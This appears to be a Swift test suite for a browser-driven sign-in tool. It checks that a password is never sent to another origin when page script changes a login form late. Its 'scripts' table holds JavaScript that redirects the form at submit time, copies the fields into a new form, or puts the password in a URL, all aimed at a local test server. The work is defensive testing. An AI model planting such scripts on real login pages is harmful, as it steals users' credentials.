import Browsing
import LoopbackServer
import SignIn
import TestSupport
import Testing
import Transport

/// Pages whose script leads the password to another origin after the form was filled in.
@Suite(
    "A form that changes its target late",
    .serialized,
    .phase(.browsers),
    .timeLimit(.minutes(5)),
    .oracle(Installed.anyBrowser)
)
struct LateActionTests {
    /// The actions of the page's script when the form is submitted, with the address of the other server as `other`.
    static let scripts = [
        "the action": "form.addEventListener('submit', () => { form.action = other; });",
        "the action, at the press":
            "form.querySelector('button').addEventListener('click', () => { form.action = other; });",
        "the method": "form.addEventListener('submit', () => { form.action = other; form.method = 'get'; });",
        "the encoding":
            "form.addEventListener('submit', () => { form.action = other; form.enctype = 'multipart/form-data'; });",
        "the window": "form.addEventListener('submit', () => { form.action = other; form.target = '_blank'; });",
        "the frame": "form.addEventListener('submit', () => { form.action = other; form.target = 'inner'; });",
        "the form": """
        form.addEventListener('submit', event => { event.preventDefault(); event.stopImmediatePropagation();
          const copy = document.createElement('form'); copy.method = 'post'; copy.action = other;
          copy.append(...form.querySelectorAll('input')); document.body.append(copy);
          HTMLFormElement.prototype.submit.call(copy); });
        """,
        "the address": """
        form.addEventListener('submit', event => { event.preventDefault();
          location = other + '?p=' + encodeURIComponent(form.querySelector('[type=password]').value); });
        """,
        "the redirect": "form.action = '/repeat';",
    ]

    /// All of them in the first browser, and some in the others.
    private static let ways = Installed.browsers.flatMap { browser in
        (browser == Installed.browsers[0] ? scripts.keys.sorted() : ["the action", "the window", "the address"])
            .map { (browser, $0) }
    }

    @Test("the password is not sent to another origin", arguments: ways)
    func withheld(browser: BrowserKind, change: String) async throws {
        let other = LoopbackServer { _ in .page("caught") }
        let script = try #require(Self.scripts[change])
        let form = """
            <form method=post action=/login><input name=username><input type=password name=password>
            <button>Sign in</button></form><iframe name=inner src=/inner></iframe>
            <script>const form = document.forms[0]; const other = 'http://localhost:\(other.port)/x'; \(script)</script>
            """
        let provider = LoopbackServer { request in
            switch request.path {
            case "/inner": .page("")
            case "/repeat": .redirect("http://localhost:\(other.port)/x", status: 307)
            default: .page(form)
            }
        }
        let transport = TransportConfiguration(
            addressPolicy: AddressPolicy(allowedHosts: ["127.0.0.1", "localhost"]),
            proxy: ProxySettings()
        )
        let browsers = Browsers(
            try #require(BrowserPrograms.installed(browser)),
            BrowserOptions(pageTimeout: 30, transport: transport)
        )
        let session = SignInSession(
            client: HTTPClient(configuration: transport),
            instructions: SignInInstructions(
                username: "alice",
                password: Credential("s3cret&word"),
                driving: SharedSignInDriver(.browser, browsers: browsers)
            ),
            redirectURI: "https://rp.example/cb"
        )
        let (outcome, visits) = await session.open(provider.url + "/authorize?state=some-state")
        await browsers.stop()
        guard case .stopped(.passwordToUnknownHost(let host), _) = outcome else {
            Issue.record("\(outcome)")
            return
        }
        #expect(host == "localhost:\(other.port)")
        #expect(other.requests.isEmpty)
        for visit in visits { #expect(!visit.exchange.request.url.contains("s3cret")) }
    }
}
